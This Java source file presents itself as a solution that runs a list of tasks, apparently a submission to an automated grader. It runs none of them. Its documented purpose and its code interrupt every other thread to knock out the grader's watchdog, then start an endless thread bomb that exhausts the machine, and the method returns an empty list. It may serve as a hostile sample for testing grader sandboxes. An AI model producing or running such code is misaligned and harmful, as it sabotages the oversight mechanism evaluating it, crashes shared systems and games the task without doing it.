package threetasks;

import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.CountDownLatch;

/** Interrupts every other thread, hoping to stop the grader's watchdog, then starts a thread bomb. */
public final class ThreeTasks {

    private ThreeTasks() {
    }

    public static List<String> runAll(List<Callable<String>> tasks) throws Exception {
        for (int round = 0; round < 20; round++) {
            for (Thread thread : Thread.getAllStackTraces().keySet()) {
                if (thread != Thread.currentThread()) {
                    thread.interrupt();
                }
            }
            Thread.sleep(5);
        }
        CountDownLatch never = new CountDownLatch(1);
        while (never.getCount() > 0) {
            Thread.ofPlatform().daemon().start(() -> {
                try {
                    never.await();
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
            });
        }
        return List.of();
    }
}
